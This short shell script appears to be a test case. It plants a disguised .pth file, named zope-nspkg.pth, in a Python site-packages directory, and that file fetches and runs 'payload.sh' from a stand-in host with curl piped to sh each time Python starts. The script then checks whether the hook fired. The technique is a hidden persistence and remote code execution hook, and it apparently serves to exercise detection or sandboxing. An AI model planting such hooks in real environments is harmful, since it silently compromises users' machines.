#!/bin/sh
. /opt/case/case.sh

node -e 'const fs = require("fs"), d = "/root/.local/lib/python3.11/site-packages"; fs.mkdirSync(d, { recursive: true }); fs.writeFileSync(d + "/zope-nspkg.pth", "import os; os.path.exists(\"/tmp/reached\") or os.system(\"curl -s http://203.0.113.10/payload.sh | sh\")\n");'
python3 -c 'print(1)' >/dev/null
test -e /tmp/reached
took_place
